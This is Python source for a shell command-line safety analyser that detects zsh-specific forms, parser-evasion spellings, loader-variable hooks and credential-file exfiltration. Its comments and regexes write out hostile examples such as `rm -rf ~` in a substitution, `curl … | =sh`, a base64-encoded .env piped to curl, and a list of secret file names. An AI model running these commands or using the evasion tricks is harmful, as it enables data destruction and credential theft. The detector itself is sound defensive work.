    ("zargs", True, "", lazyre.compile(r"zargs(?:\s+-[^\s-]\S{0,32}){0,8}\s+--\s+([^;&|\n]{0,1024}?)\s+--\s+([^;&|\n]{1,1024})"),
     r"\2 \1"),
    # glob qualifiers that run code for every file: `*(e:'CMD':)`, `*(e{CMD})`, `*(+func)`
    ("(", False, "*?]/~.abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_",
     lazyre.compile(r"\(([^()\s'\"]{0,32}?)e:?(['\"])([^\n]{0,1024}?)\2:?[^()]{0,32}\)"), r" $(\3) "),
    ("(", False, "*?]/~.abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_",
     lazyre.compile(r"\(([^()\s'\"]{0,32}?)e\{(['\"]?)([^{}]{0,1024}?)\2\}[^()]{0,32}\)"), r" $(\3) "),
    ("(", False, "*?]/~.abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_",
     lazyre.compile(r"\(([^()\s'\"]{0,32}?)\+(\w{1,64})[^()]{0,32}\)"), r" $(\2) "),
    # `${(e)x}` expands what x holds once more (`x='$(rm -rf ~)'`); other flags only reshape the value
    ("${(", False, "", lazyre.compile(r"\$\{\(([^()]{0,32}e[^()]{0,32})\)([A-Za-z_]\w{0,64})\}"), r'$(eval "echo \"$\2\"")'),
    ("${(", False, "", lazyre.compile(r"\$\{\(([^()]{0,64})\)([A-Za-z_]\w{0,64})\}"), r"${\2}"),
)
MAX_ZSH_SITES = 256  # places a needle occurs that are looked at, per form; more: a bound (asked)
# one DFA pass that every line using a form matches (a superset of the forms' own conditions): most
# lines use none, and ~1.5 µs here beats walking 18 needles (~8 µs)
_ZSH_STMT = (r"(?:^\s*|[;&|(){}\n`!]\s*|(?:^|[\s;&|(){}`!])"
             r"(?:then|do|else|elif|if|while|until|time|exec|command|builtin)\s+)")
_ZSH_HINT = (r"(?:^|[\s;&|(<>])=\(|(?:^|[\s;&|(`])=[A-Za-z_]|" + _ZSH_STMT +
             r"(?:-[ \t]+[^\s-]|(?:repeat|foreach|print|emulate|sched|zargs)\s)|\bfor\s+\w+\s*\(|"
             r"[*?\]\w/~.]\([^()\s'\"]{0,32}?(?:e[:'\"{]|\+\w)|\$\{\(|\balias\s+(?:-\w+\s+)*-\w*g")
_zsh_hint: "list[Any]" = []
# the words after which a command starts (a body's, a condition's, or a prefix like `time`, `exec`)
_STMT_WORD = lazyre.compile(r"(?:^|[\s;&|(){}`!])(?:then|do|else|elif|if|while|until|time|exec|command|builtin)$")


_HEREDOC_START = lazyre.compile(r"<<-?\s*(['\"]?)([A-Za-z_][\w.-]*)\1")


def _unquoted_mask(text: str) -> str:
    """`text` with what is quoted, escaped, commented or a here-document's body blanked to "_" (same
    length): where shell syntax is, for the rewrites that must not touch an awk program or a string."""
    out = list(text)
    i, n = 0, len(text)
    pending: "list[str]" = []  # here-documents whose bodies start at the next newline
    while i < n:
        ch = text[i]
        if ch == "\\":
            out[i:i + 2] = "_" * len(out[i:i + 2])
            i += 2
            continue
        if ch in "'\"":
            j = text.find("'", i + 1) if ch == "'" else i + 1
            if ch == '"':
                while j < n and text[j] != '"':
                    j += 2 if text[j] == "\\" else 1
            j = n - 1 if j < 0 or j >= n else j
            out[i:j + 1] = "_" * (j + 1 - i)
            i = j + 1
            continue
        if ch == "#" and (i == 0 or text[i - 1] in " \t\n;&|("):
            j = text.find("\n", i)
            j = n if j < 0 else j
            out[i:j] = "_" * (j - i)
            i = j
            continue
        if ch == "<" and text.startswith("<<", i) and not text.startswith("<<<", i):
            m = _HEREDOC_START.match(text, i)
            if m is not None:
                pending.append(m.group(2))
                i = m.end()
                continue
        if ch == "\n" and pending:
            j = i + 1
            for word in pending:
                m = re.compile(r"(?m)^[ \t]*" + re.escape(word) + r"[ \t]*$").search(text, j)
                end = m.start() if m is not None else n
                out[j:end] = "_" * (end - j)
                j = m.end() if m is not None else n
            pending = []
            i = j
            continue
        i += 1
    return "".join(out)


def statement_start(text: str, i: int) -> bool:
    """Does a command start at `i` of `text` — the line's start, after `;`, `&`, `|`, a bracket or brace,
    a newline, a backtick, `!`, or a keyword that starts a body or prefixes a command? (Looked at over
    at most 64 blanks back: bounded, whatever the line.)"""
    j = i - 1
    while j >= 0 and i - j <= 64 and text[j] in " \t":
        j -= 1
    if j < 0:
        return True
    if text[j] in ";&|(){}\n`!":
        return True
    return text[j].isalpha() and _STMT_WORD.search(text[max(0, j - 8):j + 1]) is not None


def _zsh_spelling(text: str) -> "tuple[str | None, bool]":
    """(the line as zsh reads it, spelled for bash — None when it uses no zsh form —, whether a form
    occurred in more places than are looked at)."""
    if not _zsh_hint:
        from adr.engine import regexmem  # (here: adr.engine imports this module)
        _zsh_hint.append(regexmem.compile(_ZSH_HINT))
    try:
        if _zsh_hint[0].search(text) is None:
            return None, False
    except UnicodeEncodeError:
        pass  # (a lone surrogate: RE2 reads UTF-8 only — the forms are looked for one by one)
    out, over = text, False
    masked: "tuple[str, str] | None" = None  # (the text, its mask): computed again only after a rewrite
    for needle, stmt, after, rx, repl in _ZSH_FORMS:
        if needle not in out:
            continue
        mask = masked[1] if masked is not None and masked[0] is out else None
        pieces, last, i, sites = [], 0, out.find(needle), 0
        while i >= 0:
            if (not after or (i == 0 and " " in after) or (i > 0 and out[i - 1] in after)) and \
                    (not stmt or statement_start(out, i)):
                if mask is None:
                    mask = _unquoted_mask(out)
                    masked = (out, mask)
                if mask[i] != "_":  # (inside quotes, a comment or a here-document: data)
                    sites += 1
                    if sites > MAX_ZSH_SITES:
                        over = True
                        break
                    m = rx.match(out, i)
                    if m is not None:
                        pieces += [out[last:i], m.expand(repl)]
                        last = m.end()
            i = out.find(needle, max(i + 1, last))
        if pieces:
            out = "".join(pieces) + out[last:]
            if len(out) > MAX_SOURCE:
                return None, over
    if "alias" in out and "-" in out:
        out = _zsh_global_aliases(out)
    return (out if out != text else None), over


_GLOBAL_ALIAS = lazyre.compile(r"alias\s+(?:-[a-zA-Z]*\s+)*?-[a-zA-Z]*g[a-zA-Z]*\s+(?:-[a-zA-Z]+\s+)*"
                               r"([A-Za-z_][\w.-]{0,63})=(?:'([^'\n]{0,1024})'|\"([^\"\n]{0,1024})\"|([^\s;&|]{1,1024}))")


def _zsh_global_aliases(text: str) -> str:
    """zsh's global aliases (`alias -g G='| sh'`) replace their name as any word of a later line
    (`curl … G`): the line with each use spelled out (8 aliases, MAX_ZSH_SITES uses each)."""
    mask = _unquoted_mask(text)
    defs: "list[tuple[int, str, str]]" = []
    i = text.find("alias")
    while i >= 0 and len(defs) < 8:
        if mask[i] != "_" and statement_start(text, i):
            m = _GLOBAL_ALIAS.match(text, i)
            if m is not None:
                value = next(v for v in m.groups()[1:] if v is not None)
                defs.append((m.end(), m.group(1), value))
        i = text.find("alias", i + 5)
    for end, name, value in defs:
        line_end = text.find("\n", end)
        if line_end < 0:
            continue  # (zsh expands an alias when it reads a later line: the definition's own line is read)
        rx = re.compile(r"(?<![\w./=-])" + re.escape(name) + r"(?![\w./=-])")
        mask = _unquoted_mask(text)
        pieces, last = [], line_end
        for k, m in enumerate(rx.finditer(text, line_end)):
            if k >= MAX_ZSH_SITES:
                break
            if mask[m.start()] != "_":
                pieces += [text[last:m.start()], value]
                last = m.end()
        if pieces:
            text = text[:line_end] + "".join(pieces) + text[last:]
    return text


def _zsh_pass(w: "_Walker", text: str) -> None:
    """Judge the line once more as zsh runs it: what bash would refuse or read as other words can run
    there (`curl … | =sh`, `repeat 1 rm -rf ~`, `source =(curl …)`). Stricter only, as the look-alike
    pass."""
    if not w._charge(1 + len(text) // 4096):
        return
    _, sub = _walk_apart(w, text, "as zsh reads it")
    w.deletes.extend(x for x in sub.deletes[:64] if x not in w.deletes)


# a command name no program has, which tree-sitter-bash makes of a word it split otherwise than bash
# does (`a=b{\\#{ rm -rf ~`: bash runs rm; tree-sitter ran `#{`; `time ! rm …` ran `!`; `time a=b rm …` ran
# the assignment): the line is split again as bash splits
# words (quotes, escapes, operators; `#` a comment only at a word's start) and each statement judged
_MISREAD_NAME = lazyre.compile(r"^(?:#|\{|\}|\[[^\[]|\[\[.|!$|[A-Za-z_]\w*\+?=|[|&;<>()])")
_MAX_RESPLIT = 4096
# characters bash keeps in a word that tree-sitter-bash may split a word at (a name of only these is a misread)
_SPLIT_BY_TREE_SITTER = "\u2028\u2029\u0085\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a" \
                        "\u202f\u205f\u3000"

# (a word holding one of them: bash reads one word, tree-sitter-bash two — `2>$#\u3000case rm -rf ~` hid the rm)
_SPLIT_CHAR = lazyre.compile("[" + _SPLIT_BY_TREE_SITTER + "]")


def _unset_name(text: str, w: "_Walker") -> bool:
    """A command name that is one unquoted variable the line never sets and no user's environment sets
    for a program (`$x`, `${cmd}`; not `"$x"` — an empty name that fails —, `$EDITOR`, `$CC`)."""
    name = bashwords.program_variable(text)
    return bool(name) and name not in w.env and name not in w.var_drafts


def _misread_name(name: str) -> bool:
    bare = name.lstrip(_INVISIBLE_CHARS)
    # (`<<<$""\u3000! rm -rf ~`: tree-sitter-bash split the word at the ideographic space and named `\u3000!`)
    return _MISREAD_NAME.match(bare.lstrip(_SPLIT_BY_TREE_SITTER)) is not None or not bare.strip(_SPLIT_BY_TREE_SITTER)


def _word_split_pass(w: "_Walker", text: str) -> None:
    """Judge each statement once more as bash splits its words (the walk named a command no program
    has: tree-sitter-bash split a word otherwise than bash). Only adds what it finds."""
    for line in bashwords.statements(text)[:32]:
        if not w._charge(1):
            return
        if line != text.strip():
            _walk_apart(w, line, "as bash splits the line's words")


def _walk_apart(w: "_Walker", text: str, via: str) -> "tuple[int, _Walker]":
    """Walk `text` in a fresh walker on `w`'s budget (no variables, sources or redirects carried in)
    and add what it found to `w`: commands up to the line's bound, writes, scripts, URLs and issues.
    Returns the room for commands `w` had, and the sub-walker."""
    sub = _Walker(w._charge)
    sub.src_stack = []
    sub.rw_stack = []
    sub.env = {}
    try:
        sub.layer(text, via, 0)
    except RecursionError:
        sub.issue("too-deep", "nesting too deep to follow")
    room = MAX_COMMANDS * 2 - len(w.drafts)
    w.drafts.extend(sub.drafts[:max(0, room)])
    w.writes.extend(sub.writes)
    w.scripts.extend(sub.scripts)
    w.urls.extend(sub.urls)
    for i in sub.issues:
        w.issue(i.kind, i.detail, i.via)
    return room, sub


def parse(text: str, charge: "Callable[[int], bool]" = _no_charge) -> ParsedShell:
    """Parse a command line. Never raises on any input; bounds (and the caller's work budget, `charge`
    returning False) become issues."""
    w = _Walker(charge)
    w.src_stack = []
    w.rw_stack = []
    w.env = {}
    if "\x00" in text:
        w.issue("parse-error", "NUL byte in command")
        text = text.replace("\x00", " ")
    try:
        w.layer(text, "", 0)
        if ("[$(" in text or "[`" in text) and not w.stopped:
            for inner in _subscript_commands(text):
                w.nested_shell(inner, "", 0, "array subscript evaluated as arithmetic")
        if not w.stopped:
            _hooked_variables(w)
        if len(w.drafts) > 1 and not w.stopped:
            w.hand_offs()
    except RecursionError:
        w.issue("too-deep", "nesting too deep to follow")
    if w.stopped or len(text) > MAX_SOURCE or any(i.kind == "too-deep" for i in w.issues):
        _segment_pass(w, text)
    elif w.unparsed:
        _segment_pass(w, text, recovering=True)
    if len(text) <= _MAX_RESPLIT and not w.stopped and (w.unparsed or w.glued_test or any(
            _misread_name(d.argv[0]) for d in w.drafts[:64] if d.argv and d.depth == 0)
            or not text.isascii() and _SPLIT_CHAR.search(text) is not None):
        _word_split_pass(w, text)
    folded = _lookalike_spelling(text) if len(text) <= MAX_SOURCE else None
    if folded is not None:
        _lookalike_pass(w, folded)
    if len(text) <= MAX_SOURCE and not w.stopped:
        zsh, over = _zsh_spelling(text)
        if over:
            w.issue("too-many-commands", f"zsh forms in more than {MAX_ZSH_SITES} places")
        if zsh is not None:
            _zsh_pass(w, zsh)
    for d in w.drafts[:MAX_COMMANDS]:
        if d.argv and d.argv[0] == "find":
            w.find_ok_answered(d)
    if w.moved:
        # `mv .git x && rm -rf x`: what was moved is deleted under its new name
        for x in list(w.deletes):
            src = w.moved.get(_plain_path(x.path))
            if src and len(w.deletes) < 64:
                fd = FileDelete(src, x.by, _join_via(x.via, f"moved to {x.path}"), x.recursive, x.spares, to=x.to)
                if fd not in w.deletes:
                    w.deletes.append(fd)
    if w.procsub_drafts and not w.stopped:
        _out_procsubs(w)
    _downstream_through_passes(w.drafts)
    _scripts_stdin(w)
    cmds = tuple(d.freeze() for d in w.drafts)
    assigned = tuple((k, v) for k, v in w.env.items()
                     if k != _ARGV_KEY and len(v) <= MAX_ASSIGNED_VALUE and not any(c in v for c in "$`" + _UNQUOTED_SPLIT))[:MAX_ASSIGNED]
    computed = tuple((k, v) for k, v in w.code_assign.items() if k not in w.env)[:MAX_ASSIGNED]
    path_dirs = tuple(dict.fromkeys(getattr(w, "path_dirs", ())))
    return ParsedShell(source=text, commands=cmds, writes=tuple(w.writes), scripts=tuple(w.scripts), deletes=tuple(w.deletes),
                       issues=tuple(w.issues), urls=tuple(dict.fromkeys(w.urls)), layers=tuple(w.layers),
                       assigned=assigned, computed=computed, path_dirs=path_dirs)


def _out_procsubs(w: "_Walker") -> None:
    """`curl … > >(sh)`, `curl … | tee >(sh)`, `cmd >(sh)`: an output process substitution's commands
    read what the command writes into it — its output (a redirect), or for tee what tee reads — as a
    pipeline's next stage would: the programs before it are their upstream, known text their stdin."""
    feeds = [f for f in w.out_feeds if f[0].argv != ["exec"]]  # (exec itself writes nothing there)
    for x, key, depth in w.out_feeds:
        if x.argv == ["exec"] and x in w.drafts:
            # `exec > >(sh); curl …`: what every later command prints goes there
            later = [d for d in w.drafts[w.drafts.index(x) + 1:MAX_COMMANDS] if d.argv and d.via == x.via]
            feeds += [(d, key, depth) for d in later[:16] if not any(r.op in (">", ">>", "&>") for r in d.redirects)]
    for d in w.drafts[:MAX_COMMANDS]:
        for a in d.argv[1:17]:
            if a.startswith(">(") and a in w.procsub_drafts and len(feeds) < 64:
                feeds.append((d, a, d.depth))
    for d, key, depth in feeds:
        writer = [d.argv[0]] if d.argv else []
        text = d.output if d.output is not None else (d.stdin_text if d.argv[:1] == ["tee"] else None)
        inside = [p for p in w.procsub_drafts.get(key, ())[:16] if p is not d]
        for p in inside[:1]:  # (the first command inside reads it; `>(a | b)`: b reads what a prints)
            p.upstream.extend(u for u in writer + d.upstream[:16] if u not in p.upstream)
            p.piped = True
            if text is not None and p.stdin_text is None:
                p.stdin_text = text
                w.feed(p, text, depth)
                w.pass_stdin(p, text=text)
            else:
                # as `sh < <(…)` is read: its feeders' programs and the files they read reach it
                w.substituted_stdin(p, [d], "", p.via, depth)
                if _reads_commands(p) and not _input_known_elsewhere(d, w.procsubs):
                    w.issue("piped-dynamic", f"a shell runs what another program writes into it: {d.raw[:80]}", p.via)


def _scripts_stdin(w: "_Walker") -> None:
    """Inline code that reads its stdin, fed a file by the line (`python3 -c '…sys.stdin…' < .env`, `cat
    KEY | node -e '…process.stdin…'`): the same code again, with the files it reads on stdin named
    (Script.stdin_paths) — code that sends what it reads sends them."""
    for d in w.drafts[:MAX_COMMANDS]:
        if not d.scripts_at:
            continue
        files = [r.target for r in d.redirects if r.op == "<" and r.fd in ("", "0") and r.target]
        todo, seen = list(d.fed_by), 0
        while todo and seen < 16:  # back through filters and encoders: `cat KEY | base64 | python3 -c …`
            f, seen = todo.pop(0), seen + 1
            if not f.argv or f.argv[0] not in _PASS_FILTERS | _FILE_ENCODERS or f.stdin_text:
                continue
            own = [a for a in f.argv[1:] if not a.startswith("-")][:8]
            files += own + [r.target for r in f.redirects if r.op == "<" and r.fd in ("", "0") and r.target]
            if not own:
                todo += f.fed_by
        if not files:
            continue
        for k in d.scripts_at:
            s = w.scripts[k]
            if len(w.scripts) < 64 and interpreters.reads_stdin(s.code):
                w.scripts.append(Script(s.language, s.code, _join_via(s.via, "reads " + " ".join(files[:4]) + " on stdin"),
                                        stdin_paths=tuple(dict.fromkeys(files))[:16]))


# where bash evaluates a string as arithmetic or as a variable name, and with it runs the command
# substitution in an array subscript the string holds (`x='a[$(cmd)]'; (( x ))`, `test -v 'a[$(cmd)]'`,
# `printf -v`, `read`, `declare -i`, `[[ $x -eq 1 ]]`)
_EVALUATES_NAMES = lazyre.compile(
    r"\(\(|\$\[|\blet\s|\b(?:declare|typeset|local|export|readonly)\s+-[a-zA-Z]*[iaAn]|\s-(?:v|R|eq|ne|lt|le|gt|ge)\s"
    r"|\bprintf\s+-v|\b(?:read|unset|mapfile|readarray|wait\s+-p)\s|\$\{!")
MAX_SUBSCRIPTS = 8


_DECLARERS = frozenset({"export", "declare", "typeset", "local", "readonly"})
_ENV_NAME = lazyre.compile(r"[A-Z_][A-Z0-9_]{0,63}")  # an environment-style name (LD_PRELOAD, BASH_ENV, HISTFILE)


def _hooked_variables(w: "_Walker") -> None:
    """Loader and startup variables (LD_PRELOAD, BASH_ENV, PAGER …) that reach a command other than by a
    plain `NAME=value` the walker hooks as it reads it: through `env 'NAME=v' cmd`, an `export` whose
    word is quoted or escaped in its name (`export LD_PRE''LOAD=…`: bash's export sees the word after
    quote removal), or a value `read`/`printf -v` put in and `export` passed on — each judged as what
    it makes later programs run (env_hook), once per name and value."""
    done: set[tuple[str, str]] = set()
    for d in list(w.drafts[:MAX_COMMANDS]):
        pairs = [e.partition("=") for e in d.env]
        if d.argv and d.argv[0] in _DECLARERS and ("'" in d.raw or '"' in d.raw or "\\" in d.raw):
            try:
                words = shlex.split(d.raw)[1:]
            except ValueError:
                words = []
            pairs += [a.partition("=") for a in words if "=" in a and not a.startswith("-")]
        if d.argv and d.argv[0] in _DECLARERS and len(w.layers) < 64:
            # a name the line computes: `L=LD_PRELOAD; export $L=/tmp/x.so`, `declare -x "$L=…"` — read
            # as the export it becomes
            for a in d.argv[1:]:
                name, eq, value = a.partition("=")
                if eq and _ENV_NAME.fullmatch(name) and name + "=" not in d.raw and (name, value) not in done \
                        and len(done) < 16:
                    done.add((name, value))
                    w.nested_shell(f"export {name}={_sh_quote(value)}", d.via, d.depth, f"{d.argv[0]} ${name}", inherit=d)
        for name, eq, value in pairs:
            if eq and (name in _PRELOAD_VARS or name in _STARTUP_VARS or name in _COMMAND_VARS or name in _MAKE_VARS) \
                    and (name, value) not in done and len(done) < 16:
                done.add((name, value))
                w.env_hook(name, value, d.via, d.depth, d)


def _subscript_commands(text: str) -> list[str]:
    """The commands in `NAME[$(…)]` / ``NAME[`…`]`` spelled anywhere in the line (inside quotes too),
    when the line has a place that evaluates such a string: the quotes make it data to the parser,
    bash's arithmetic makes it code."""
    if len(text) > MAX_SOURCE or not _EVALUATES_NAMES.search(text):
        return []
    out: list[str] = []
    i = 0
    while len(out) < MAX_SUBSCRIPTS:
        k = min((j for j in (text.find("[$(", i), text.find("[`", i)) if j >= 0), default=-1)
        if k < 0:
            break
        if text[k + 1] == "`":
            end = text.find("`", k + 2)
            start = k + 2
        else:
            start, depth, end = k + 3, 1, -1
            for n in range(start, len(text)):
                c = text[n]
                depth += (c == "(") - (c == ")")
                if depth == 0:
                    end = n
                    break
        if end < 0:
            break
        inner = text[start:end].strip()
        if inner:
            out.append(inner)
        i = end + 1
    return out


def _git_remote_set(sub: str, rest: "list[str]") -> "tuple[str, str] | None":
    """(NAME, URL) when git's subcommand `sub` with `rest` points a remote at URL: `remote add|set-url
    NAME URL`, `config remote.NAME.url|pushurl URL` (--add/--replace-all: the same)."""
    if sub == "remote" and rest[:1] in (["add"], ["set-url"]):
        pos = positionals(rest[1:], {"-t", "-m", "--track", "--master"})
        return (pos[0], pos[1]) if len(pos) >= 2 else None
    if sub == "config":
        pos = [a for a in rest if not a.startswith("-") and a != "set"]
        m = re.fullmatch(r"(?i)remote\.(.+)\.(?:push)?url", pos[0]) if len(pos) >= 2 else None
        return (m.group(1), pos[1]) if m else None
    return None


def git_remote_definition(argv: "Sequence[str]") -> "tuple[str, str] | None":
    """(NAME, URL) when the git command line points a remote at URL (see _git_remote_set)."""
    i, args = _git_subcommand(list(argv))
    return _git_remote_set(args[i], args[i + 1:]) if i is not None else None


def _find_exec_argvs(sub: "list[str]", find_args: "list[str]") -> "list[list[str]]":
    """The command a find's -exec runs, once per glob of what it is handed (`{}` → START/**/NAME):
    `find ~/.config -name config.yaml -exec sed -i … {} +` edits ~/.config/**/config.yaml, and the
    rules must see that path, not `{}`. Deleters are left as written: their reach (and what their
    tests spare) is effects.find_deletes' job."""
    run = sub[1:] if sub[0].rsplit("/", 1)[-1] in ("sudo", "doas") and len(sub) > 1 else sub
    prog = run[0].rsplit("/", 1)[-1]
    if run[0] == "{}" or prog in SHELLS and run[1:2] == ["{}"]:
        # `find . -name x.sh -exec {} \;`, `-exec sh {} \;`: the file found runs — as the path a literal
        # name gives (`./x.sh` beside `./**/x.sh`), so the file is read; the line as written is judged too
        paths = []
        for r in effects.find_exec_reach(find_args)[:4]:
            paths.append(r)
            # what a shell's glob reaches of it (`**` is `*` to the resolver, as to bash): two levels
            if "/**/" in r:
                paths += [r.replace("/**/", "/", 1), r.replace("/**/", "/*/", 1)]
            elif r.endswith("/**"):
                paths += [r[:-1], r[:-1] + "/*"]
        return [[a.replace("{}", p) for a in sub] for p in dict.fromkeys(paths)] + [sub]
    if not any("{}" in a for a in sub) or not (_changes_its_operands(prog, run[1:]) or prog in _OPERAND_WRITERS
                                               or _sends_its_operands(prog, run[1:])):
        return [sub]  # reading what find hands it (grep, file, cp's sources) is judged as written
    reach = effects.find_exec_reach(find_args)[:4]
    return [[a.replace("{}", r) for a in sub] for r in reach] or [sub]


def _has_glob_chars(p: str) -> bool:
    return any(ch in p for ch in "*?[")


def join_continuations(text: str) -> str:
    """The text with every backslash-newline the shell removes removed: outside single quotes and
    comments (in double quotes too). Bash joins the lines before it splits words, so `r` backslash
    newline `m`
    is the word `rm`; a parser that splits first would see `r` and `m`."""
    out: list[str] = []
    i, n = 0, len(text)
    quote = ""  # "'" or '"' while inside one
    while i < n:
        ch = text[i]
        if quote == "'":
            j = text.find("'", i)
            if j < 0:
                out.append(text[i:])
                break
            out.append(text[i:j + 1])
            i, quote = j + 1, ""
            continue
        if ch == "\\":
            if i + 1 < n and text[i + 1] == "\n":
                i += 2  # the continuation disappears
                continue
            out.append(text[i:i + 2])
            i += 2
            continue
        if quote == "":
            if ch == "'":
                quote = "'"
                # ($'…' also ends at an unescaped quote; its backslashes are not continuations either)
            elif ch == '"':
                quote = '"'
            elif ch == "#" and (i == 0 or text[i - 1] in " \t\n;&|("):
                j = text.find("\n", i)
                j = n if j < 0 else j
                out.append(text[i:j])
                i = j
                continue
        elif ch == '"':
            quote = ""
        out.append(ch)
        i += 1
    return "".join(out)


def _bare_input(node: ts.Node, text: "Callable[[ts.Node], str]") -> "ts.Node | None":
    """The file of a statement that is only `< FILE` (no command): its destination node. (In
    backquotes, `` `< FILE` ``, the grammar wraps it in a redirected statement without a body.)"""
    rs = node.children_by_field_name("redirect")
    inner = [c for c in node.named_children if c.type != "comment"]
    if not rs and len(inner) == 1 and inner[0].type == "redirected_statement" \
            and inner[0].child_by_field_name("body") is None:
        rs = inner[0].children_by_field_name("redirect")
    if len(rs) != 1 or rs[0].type != "file_redirect" or rs[0].child_by_field_name("descriptor") is not None:
        return None
    if "".join(text(c) for c in rs[0].children if not c.is_named) != "<":
        return None
    dests = rs[0].children_by_field_name("destination")
    return dests[0] if len(dests) == 1 else None


def _arg_file(argv: "list[str]") -> "str | None":
    """The list file of `xargs -a FILE` / `--arg-file=FILE` / `parallel -a|:::: FILE` (before the program)."""
    for i, a in enumerate(argv[:-1]):
        if a in ("-a", "--arg-file", "::::"):
            return argv[i + 1]
        if a.startswith("--arg-file="):
            return a.split("=", 1)[1]
        if a.startswith("-a") and len(a) > 2 and argv[:1] == ["xargs"]:
            return a[2:]
    return None


def _find_roots(args: "list[str]") -> "list[str]":
    """find's starting points: its operands before the first expression word (`.` when none)."""
    roots: list[str] = []
    for a in args[:32]:
        if a in ("-H", "-L", "-P") or a.startswith("-O") or a.startswith("-D"):
            continue
        if a.startswith(("-", "(", "!")) or a == ")":
            break
        roots.append(a)
    return roots or ["."]


def _printed_paths(d: "_Draft") -> "list[str] | None":
    """What a pipeline stage prints that names files: find's reach, ls's operands, literal output."""
    if not d.argv:
        return None
    if d.argv[0] == "find":
        return effects.find_exec_reach(d.argv[1:])
    if d.argv[0] == "ls":
        flags = "".join(a[1:] for a in d.argv[1:] if a.startswith("-") and not a.startswith("--"))
        ops = [a for a in d.argv[1:] if not a.startswith("-")]
        if "d" in flags or "--directory" in d.argv:
            return ops or ["."]
        # a folder's entries print as bare names (relative to the cwd); a glob prints what it matched;
        # a file prints its own name — and a credential file is a file by its name (`ls ~/.ssh/id_rsa`);
        # -a/-A print the dot entries too (`cd ~ && ls -A | xargs cat` reaches .netrc)
        dots = any(a in ("--all", "--almost-all") for a in d.argv[1:]) or "a" in flags or "A" in flags
        return [o for o in ops if any(c in o for c in "*?[") or _secret_file_name(o)] or \
            (["./*", "./.*"] if dots else ["./*"])
    if d.output is not None:
        return [w for w in d.output.split() if w][:64]
    return None


# names that are files wherever they are found: keys, credential and token files (engine/outflow.py SECRET_GLOBS)
_SECRET_FILE = lazyre.compile(r"(?:id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?|credentials(?:\.json)?|\.npmrc|\.netrc|\.pypirc|"
                              r"\.git-credentials|\.vault-token|\.pgpass|\.env(?:\.[\w.-]+)?|g?shadow|"
                              r"[^/]+\.(?:pem|key|p12|pfx)|service-account[^/]*\.json)")
_NOT_SECRET_FILE = lazyre.compile(r"\.(?:pub|example|sample|template|dist)$")


def _secret_file_name(path: str) -> bool:
    """Does this operand name a credential file by its base name (`~/.ssh/id_rsa`, `~/.aws/credentials`)?"""
    base = path.rsplit("/", 1)[-1]
    return bool(base) and _SECRET_FILE.fullmatch(base) is not None and not _NOT_SECRET_FILE.search(base)


# programs that change the files they are given in place (their metadata, content or name)
_OPERAND_CHANGERS = frozenset({"chmod", "chown", "chgrp", "touch", "truncate", "setfacl", "chattr", "rename", "mv",
                               "gzip", "bzip2", "xz", "lzma", "zstd", "lz4", "compress", "ed", "ex"})
_OPERAND_WRITERS = _OPERAND_CHANGERS | {"tee", "sponge"}  # (tee also passes its input on: no changer in a pipe)


# PATH values (path_reset): the earlier PATH kept whole, or adr's shim folder named (`adr wrap` exports
# it as ADR_SHIM_DIR; it lives in adr's runtime folder, …/adr/shims/KEY or $ADR_HOME/run/shims/KEY)
_KEEPS_PATH = lazyre.compile(r"\$PATH\b|\$\{PATH\}")
_NAMES_SHIMS = lazyre.compile(r"\$\{?ADR_SHIM_DIR\b|/adr/shims/|/run/shims/")
_SUBST_TEXT = lazyre.compile(r"\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`")

# downstream of a command whose output names a file the line removes, moves away or makes unrunnable
# (rm, mv SRC, chmod -x); ">" is its counterpart for a file written (mark_namers)
REMOVED = "<removed>"
# an operand that is only a variable, maybe with a trailing `/` or `/*` (`"$BUILD_DIR"/*`, `"${STEAMROOT}/"*`,
# `$PREFIX/`): no guard (`${X:?}`), default or other text around it
_UNSET_ROOTED = lazyre.compile(r"""(?:^|\s)["']?\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?["']?(?:/["']?(?:\*["']?)?)?(?=\s|$|;|&|\|)""")
# (the walker's environment key holding the positional parameters, NUL-separated: "$*" joins them by IFS)
_ARGV_KEY = "\0argv"
# downstream of commands whose output a program that contacts hosts carries inside a URL or host name
SENT_IN_URL = "<url>"
# programs that are not network clients but contact the host their URL or image names (a secret in the
# URL leaves with the request); curl, wget … are network clients and judged as such
_URL_CONTACTORS = frozenset({"git", "hg", "svn", "go", "docker", "podman", "nerdctl", "buildah", "skopeo", "crane",
                             "oras", "helm", "pip", "pip3", "pipx", "uv", "npm", "npx", "pnpm", "yarn", "bun", "gem",
                             "cargo", "composer", "conda", "mamba", "brew", "apt-get", "apt", "dnf", "yum",
                             "kubectl", "terraform", "ansible-galaxy", "dotnet", "nuget", "mvn", "gradle"})
# a computed part inside a URL's host or path (`https://h/$(…)`, `h.tld/$(…)`, `$(…)@h.tld`, `$(…).h.tld`)
_COMPUTED_IN_URL = lazyre.compile(
    r"(?i)^(?:[a-z][a-z0-9+.-]*://[^\s]*[$`]|(?:[\w-]+\.)+[a-z]{2,}(?::\d+)?/[^\s]*[$`]|[^\s]*[$`][^\s]*@(?:[\w-]+\.)+[a-z]{2,}|[$`][^\s]*\.(?:[\w-]+\.)*[a-z]{2,}(?::\d+)?(?:/|$))")

# PATH lookups: what they print is where a program lives
_LOOKUP_PROGRAMS = frozenset({"which", "gwhich", "whereis", "where", "type"})

# stages that print (a part or a form of) what comes on stdin or is in their file operands
_PASS_FILTERS = frozenset({"cat", "head", "tail", "cut", "tr", "sed", "gsed", "awk", "gawk", "mawk", "grep", "egrep",
                           "fgrep", "sort", "uniq", "tee", "xargs"})
# programs that print a form of the files they are given (an encoding, a compression, a cipher)
_FILE_ENCODERS = frozenset({"base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd", "lz4",
                            "zcat", "openssl", "gpg", "rev", "tac", "nl", "fold", "strings", "jq", "paste", "uuencode"})


def _downstream_through_passes(drafts: "Sequence[_Draft]") -> None:
    """What a command prints on (`passes`: `cat <(base64 .env)`, `which git > /tmp/p; … $(cat /tmp/p)`) goes
    where that command's output goes: `cat <(base64 .env) | curl -d @- …` sends the base64 of .env. Drafts
    are made before the commands that read them, so one walk from the last back carries chains."""
    for d in reversed(drafts[:MAX_COMMANDS]):
        if not d.passes or not d.downstream:
            continue
